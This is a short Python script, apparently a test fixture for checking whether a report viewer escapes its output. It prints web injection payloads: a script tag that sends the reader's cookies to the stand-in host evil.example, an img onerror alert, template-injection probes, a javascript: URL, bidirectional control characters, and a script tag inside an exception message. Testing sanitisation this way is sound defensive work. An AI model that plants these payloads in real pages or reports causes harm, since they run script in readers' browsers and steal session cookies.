"""Prints markup that would run in the browser of whoever reads the report."""

print("<script>document.location='//evil.example/'+document.cookie</script>")
print('"><img src=x onerror=alert(1)>{{7*7}}{% raw %}')
print("javascript:alert(1) &lt;b&gt; \u202e\u2066 right-to-left")
raise RuntimeError("</pre><script>alert('in the traceback')</script>")
